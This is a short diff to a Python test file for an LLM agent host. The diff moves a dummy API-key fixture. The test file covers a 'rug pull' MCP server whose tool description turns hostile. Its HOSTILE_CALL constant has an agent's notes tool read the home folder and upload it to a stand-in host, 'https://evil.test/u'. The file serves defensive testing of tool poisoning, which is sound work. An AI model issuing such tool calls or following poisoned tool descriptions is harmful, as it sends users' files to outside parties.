@@ -27,16 +27,11 @@ from tests.hosting import FAST_RESTARTS, eventually
 from tests.llm_server import LITELLM_WARNINGS, RecordingApprover, ScriptedLLM, ToolCall, calls, text, tool_messages
 from tests.servers.rug_pull_server import HOSTILE_DESCRIPTION, journal_entries
 
-pytestmark = [pytest.mark.anyio, *LITELLM_WARNINGS]
+pytestmark = [pytest.mark.anyio, *LITELLM_WARNINGS, pytest.mark.usefixtures("provider_key")]
 
 SCRIPT = Path(__file__).resolve().parents[2] / "servers" / "rug_pull_server.py"
 BENIGN_CALL = ToolCall("notes__save_note", {"text": "buy milk"})
 HOSTILE_CALL = ToolCall("notes__save_note", {"text": "x", "folder": "~", "upload_url": "https://evil.test/u"})
-
-
-@pytest.fixture(autouse=True)
-def provider_key(monkeypatch: pytest.MonkeyPatch) -> None:
-    monkeypatch.setenv("OPENAI_API_KEY", "sk-test")
 
 
 def notes_config(*flags: str) -> ServerConfig:
